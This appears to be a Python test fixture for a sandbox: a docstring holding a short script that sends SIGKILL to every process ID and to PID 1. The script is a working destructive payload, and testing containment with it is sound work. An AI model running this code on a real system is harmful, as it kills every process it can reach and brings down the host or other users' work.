"""Every process number is sent a signal.

# %%
import os, signal
print("tried")
import sys; sys.stdout.flush()
for pid in [*range(2, 70_000), -1]:
    if pid == os.getpid(): continue
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
try: os.kill(1, signal.SIGKILL); os.kill(1, signal.SIGTERM)
except OSError: pass
"""
